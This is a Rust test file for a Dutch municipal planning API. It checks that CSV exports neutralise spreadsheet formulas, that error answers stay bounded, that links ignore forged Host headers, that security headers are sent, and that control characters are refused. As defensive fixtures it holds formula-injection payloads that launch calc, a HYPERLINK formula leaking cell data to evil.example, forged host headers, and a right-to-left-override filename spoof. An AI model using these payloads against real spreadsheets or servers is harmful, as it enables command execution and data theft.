//! The safety rules of SPEC §15 that hold for every answer: spreadsheets that show formulas as text, error
//! answers of bounded size, links built from the configured public URL, the headers of every answer, and
//! texts without control characters.

use reqwest::Method;
use serde_json::{Value, json};
use tests::{Reply, TestApp};

use crate::contributions::World;

/// Reads CSV text into rows of cells.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn column(header: &[String], name: &str) -> usize {
    header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"))
}

fn codes(r: &Reply) -> Vec<String> {
    let params = r.body["invalidParams"].as_array().cloned().unwrap_or_default();
    let mut codes: Vec<String> =
        params.iter().map(|p| format!("{}:{}", p["name"].as_str().unwrap(), p["code"].as_str().unwrap())).collect();
    codes.sort();
    codes
}

async fn contributions_by_title(w: &World) -> Vec<(String, String)> {
    let list = w.app.get("/api/v1/contributions?pageSize=200", &w.coordinator).await;
    let mut found: Vec<(String, String)> = list.ok(200)["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["title"].as_str().unwrap().to_owned(), c["description"].as_str().unwrap().to_owned()))
        .collect();
    found.sort();
    found
}

#[tokio::test]
async fn a_csv_export_shows_formulas_as_text_and_imports_back_unchanged() {
    let w = World::new().await;
    let titles = [
        "=cmd|' /C calc'!A0",
        "+HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Klik hier\")",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "'= begint al met een aanhalingsteken",
        "Wijkagent twee dagdelen per week",
    ];
    for title in titles {
        let mut body = w.proposal("G1", &w.police);
        body["title"] = json!(title);
        body["description"] = json!(format!("{title}\r\nTweede regel"));
        w.app.post("/api/v1/contributions", &w.coordinator, &body).await.ok(201);
    }
    // A tab or carriage return never starts a stored title: a title is one line, so both are refused.
    let mut body = w.proposal("G1", &w.police);
    body["title"] = json!("\t=1+1");
    assert_eq!(codes(&w.app.post("/api/v1/contributions", &w.coordinator, &body).await), ["title:invalid_text"]);
    body["title"] = json!("\r\n=1+1");
    assert_eq!(codes(&w.app.post("/api/v1/contributions", &w.coordinator, &body).await), ["title:invalid_text"]);
    body["title"] = json!("=1+1");
    w.app.post("/api/v1/contributions", &w.coordinator, &body).await.ok(201);
    let stored = contributions_by_title(&w).await;

    let export = w.export(&w.coordinator, "").await;
    assert_eq!(export.status, 200, "{}", export.text);
    let disposition = export.header("content-disposition").unwrap_or_default();
    assert!(
        disposition.starts_with("attachment; filename=\"") && disposition.ends_with(".csv\""),
        "a download with a file name: {disposition:?}"
    );
    let table = cells(&export.text);
    let header = &table[0];
    let (title, description) = (column(header, "title"), column(header, "description"));
    for row in &table[1..] {
        for cell in [&row[title], &row[description]] {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula reaches the spreadsheet: {cell:?}");
        }
    }
    let written: Vec<&str> = table[1..].iter().map(|r| r[title].as_str()).collect();
    for original in titles.iter().chain(&["=1+1"]) {
        let neutralised = if original.starts_with(['=', '+', '-', '@', '\'']) {
            format!("'{original}")
        } else {
            original.to_string()
        };
        assert!(written.contains(&neutralised.as_str()), "{neutralised:?} not in {written:?}");
    }

    // The import takes off exactly what the export put on.
    let imported = w.import(&w.coordinator, export.text.clone().into_bytes()).await;
    let result = imported.ok(200);
    assert_eq!(
        (result["created"].clone(), result["updated"].clone(), result["unchanged"].clone()),
        (json!(0), json!(0), json!(titles.len() + 1)),
        "{}",
        imported.text
    );
    assert_eq!(contributions_by_title(&w).await, stored, "titles and descriptions are kept exactly");
}

#[tokio::test]
async fn an_answer_lists_at_most_a_thousand_problems_and_counts_the_rest() {
    let app = TestApp::spawn().await;
    let mut file = String::from("id,title\r\n");
    for _ in 0..5000 {
        file.push_str("geen-uuid,Titel\r\n");
    }
    let request = app.request(Method::POST, "/api/v1/contributions/imports", Some(&app.admin));
    let refused = TestApp::send(request.header("Content-Type", "text/csv").body(file)).await;
    let names = refused.problem(400);
    assert_eq!(names.len(), 1000);
    assert_eq!(names[0], "rows[2].id");
    assert_eq!(refused.body["moreInvalidParams"], 4000, "the rest are counted: {}", &refused.text[..300]);
    assert!(refused.body["detail"].as_str().unwrap().contains("5000"), "{}", refused.body["detail"]);
    assert!(refused.text.len() < 150_000, "a bounded answer, not {} bytes", refused.text.len());

    // Rows past a full list are still checked on their own: three columns missing on each of 3000 rows.
    let file = format!("title\r\n{}", "Titel\r\n".repeat(3000));
    let request = app.request(Method::POST, "/api/v1/contributions/imports", Some(&app.admin));
    let refused = TestApp::send(request.header("Content-Type", "text/csv").body(file)).await;
    assert_eq!(refused.problem(400).len(), 1000);
    assert_eq!(refused.body["moreInvalidParams"], 8000);

    // The same bound holds for a JSON body with too many problems.
    let fields: serde_json::Map<String, Value> = (0..1500).map(|i| (format!("veld{i}"), json!(i))).collect();
    let refused = app.post("/api/v1/municipalities", &app.admin, &Value::Object(fields)).await;
    assert_eq!(refused.problem(400).len(), 1000);
    assert_eq!(refused.body["moreInvalidParams"], 501, "1500 unknown fields and the missing name");
}

#[tokio::test]
async fn links_use_the_public_url_whatever_host_the_request_names() {
    for configured in [None, Some("https://gebiedscyclus.example.nl")] {
        let app = TestApp::spawn_with(|config| config.public_url = configured.map(str::to_owned)).await;
        let base = configured.map(str::to_owned).unwrap_or_else(|| app.address.clone());
        let m = app.municipality("Oldambt").await;
        app.area(&m, "OLD-NOORD").await;
        app.area(&m, "OLD-ZUID").await;
        let forged = [
            ("Host", "evil.example"),
            ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Proto", "gopher"),
            ("Forwarded", "host=evil.example;proto=https"),
        ];
        for (name, value) in forged {
            let request = app.request(Method::GET, "/api/v1/areas?pageSize=1", Some(&app.admin)).header(name, value);
            let page = TestApp::send(request).await;
            let next = page.ok(200)["next"].as_str().unwrap_or_default().to_owned();
            assert!(next.starts_with(&format!("{base}/api/v1/areas?")), "{name}: {value} gave {next}");

            let request = app.request(Method::GET, "/api/v1/events?pageSize=1", Some(&app.admin)).header(name, value);
            let events = TestApp::send(request).await;
            let url = events.ok(200)["results"][0]["resourceUrl"].as_str().unwrap_or_default().to_owned();
            assert!(url.starts_with(&format!("{base}/api/v1/municipalities/")), "{name}: {value} gave {url}");
            let next = events.body["next"].as_str().unwrap_or_default().to_owned();
            assert!(next.starts_with(&format!("{base}/api/v1/events?")), "{name}: {value} gave {next}");
        }
    }
}

#[tokio::test]
async fn every_answer_says_nosniff_and_every_authenticated_one_no_store() {
    let app = TestApp::spawn().await;
    let m = app.municipality("Woerden").await;
    let listed = app.get("/api/v1/municipalities", &app.admin).await;
    listed.ok(200);
    let token = json!({"name": "Dashboard raad", "role": "viewer", "municipalityId": m});
    let created = app.post("/api/v1/api-tokens", &app.admin, &token).await;
    assert!(created.ok(201)["token"].is_string());
    let invalid = app.post("/api/v1/municipalities", &app.admin, &json!({})).await;
    invalid.problem(400);
    let unauthenticated = app.get("/api/v1/municipalities", "not-a-token").await;
    unauthenticated.problem(401);
    let unknown = TestApp::send(app.request(Method::GET, "/api/v1/nothing-here", None)).await;
    unknown.problem(404);
    let health = TestApp::send(app.request(Method::GET, "/health/live", None)).await;
    assert_eq!(health.status, 200);

    // HTTP clients refuse a URI this long themselves, so the request is written by hand.
    let long_query = format!("/api/v1/municipalities?name={}", "a".repeat(100 * 1024));
    let too_long = raw_get(&app, &long_query).await;
    too_long.problem(414);
    let big_header = app.request(Method::GET, "/api/v1/municipalities", Some(&app.admin));
    let too_large = TestApp::send(big_header.header("X-Padding", "b".repeat(64 * 1024))).await;
    too_large.problem(431);

    let all = [&listed, &created, &invalid, &unauthenticated, &unknown, &health, &too_long, &too_large];
    for (i, r) in all.iter().enumerate() {
        assert_eq!(r.header("x-content-type-options"), Some("nosniff"), "answer {i} ({})", r.status);
    }
    for (i, r) in [&listed, &created, &invalid, &unauthenticated].iter().enumerate() {
        let cache = r.header("cache-control").unwrap_or_default();
        assert!(cache.contains("no-store"), "answer {i} ({}) may be stored: {cache:?}", r.status);
    }
}

#[tokio::test]
async fn control_characters_and_direction_overrides_are_refused_in_names_and_cells() {
    let w = World::new().await;
    let m = w.app.municipality("Stichtse Vecht").await;
    let bad = ["Nul\u{0}teken", "Twee\r\nregels", "Een\nregel", "Omgekeerd \u{202E}fdp.exe", "Tab\tteken", "Bel\u{7}"];
    for name in bad {
        let refused = w.app.post("/api/v1/municipalities", &w.app.admin, &json!({"name": name})).await;
        assert_eq!(codes(&refused), ["name:invalid_text"], "{name:?}");
        let organisation = json!({"name": name, "kind": "police"});
        let refused = w.app.post("/api/v1/organisations", &w.app.admin, &organisation).await;
        assert_eq!(codes(&refused), ["name:invalid_text"], "{name:?}");
        let area = json!({"municipalityId": m, "name": name, "code": "SV-1", "localities": [{"name": name}]});
        let refused = w.app.post("/api/v1/areas", &w.app.admin, &area).await;
        assert_eq!(codes(&refused), ["localities[0].name:invalid_text", "name:invalid_text"], "{name:?}");
        let token = json!({"name": name, "role": "viewer", "municipalityId": m});
        let refused = w.app.post("/api/v1/api-tokens", &w.app.admin, &token).await;
        assert_eq!(codes(&refused), ["name:invalid_text"], "{name:?}");
        let mut proposal = w.proposal("G1", &w.police);
        proposal["title"] = json!(name);
        proposal["unit"] = json!(name);
        let refused = w.app.post("/api/v1/contributions", &w.coordinator, &proposal).await;
        assert_eq!(codes(&refused), ["title:invalid_text", "unit:invalid_text"], "{name:?}");

        let mut file = csv::Writer::from_writer(vec![]);
        file.write_record(["agendaDocumentId", "goalKey", "organisationId", "title", "kind"]).unwrap();
        file.write_record([w.agenda.as_str(), "G1", w.police.as_str(), name, "capacity"]).unwrap();
        let refused = w.import(&w.coordinator, file.into_inner().unwrap()).await;
        assert_eq!(codes(&refused), ["rows[2].title:invalid_text"], "{name:?}");

        let query = format!("/api/v1/municipalities?name={}", urlencode(name));
        assert_eq!(codes(&w.app.get(&query, &w.app.admin).await), ["name:invalid_text"], "{name:?}");
    }
    assert_eq!(
        w.app.get("/api/v1/municipalities?pageSize=200", &w.app.admin).await.body["results"].as_array().unwrap().len(),
        2
    );

    // Multi-line texts keep their line breaks, and refuse every other control character.
    let description = "Eerste regel\r\nTweede regel\nDerde regel";
    let mut proposal = w.proposal("G1", &w.police);
    proposal["description"] = json!(description);
    let created = w.app.post("/api/v1/contributions", &w.coordinator, &proposal).await;
    assert_eq!(created.ok(201)["description"], description);
    let id = created.id();
    for bad in ["Nul\u{0}", "Omgekeerd \u{202E}", "Tab\tteken", "Isolaat \u{2066}"] {
        proposal["description"] = json!(bad);
        let refused = w.app.post("/api/v1/contributions", &w.coordinator, &proposal).await;
        assert_eq!(codes(&refused), ["description:invalid_text"], "{bad:?}");
        let refused = w.act(&w.partner, &id, "withdraw", Some(bad)).await;
        assert_eq!(codes(&refused), ["note:invalid_text"], "{bad:?}");
    }
    let note = "Geen capaciteit meer:\r\n- reorganisatie\n- budget";
    w.act(&w.partner, &id, "withdraw", Some(note)).await.ok(200);
    let history = w.app.get(&format!("/api/v1/contributions/{id}/transitions"), &w.coordinator).await;
    assert_eq!(history.ok(200)["results"][0]["note"], note);

    let mut file = csv::Writer::from_writer(vec![]);
    file.write_record(["agendaDocumentId", "goalKey", "organisationId", "title", "description", "kind"]).unwrap();
    file.write_record([w.agenda.as_str(), "G1", w.police.as_str(), "Uit een bestand", description, "capacity"])
        .unwrap();
    w.import(&w.coordinator, file.into_inner().unwrap()).await.ok(200);
    let imported = contributions_by_title(&w).await;
    assert!(imported.contains(&("Uit een bestand".to_owned(), description.to_owned())), "{imported:?}");
}

/// `GET target` over a new connection, written and read by hand.
async fn raw_get(app: &TestApp, target: &str) -> Reply {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let host = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(host).await.expect("connect");
    let head = format!(
        "GET {target} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
        app.admin
    );
    stream.write_all(head.as_bytes()).await.expect("request written");
    let mut answer = vec![];
    stream.read_to_end(&mut answer).await.expect("answer read");
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let (head, text) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
    let mut lines = head.split("\r\n");
    let status = lines.next().and_then(|l| l.split(' ').nth(1)).and_then(|s| s.parse::<u16>().ok()).unwrap_or(0);
    let mut headers = reqwest::header::HeaderMap::new();
    for line in lines {
        if let Some((name, value)) = line.split_once(':')
            && let (Ok(name), Ok(value)) = (
                reqwest::header::HeaderName::from_bytes(name.trim().as_bytes()),
                reqwest::header::HeaderValue::from_str(value.trim()),
            )
        {
            headers.append(name, value);
        }
    }
    Reply {
        status: reqwest::StatusCode::from_u16(status).expect("a status"),
        headers,
        body: serde_json::from_str(text).unwrap_or(Value::Null),
        text: text.to_owned(),
    }
}

fn urlencode(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}
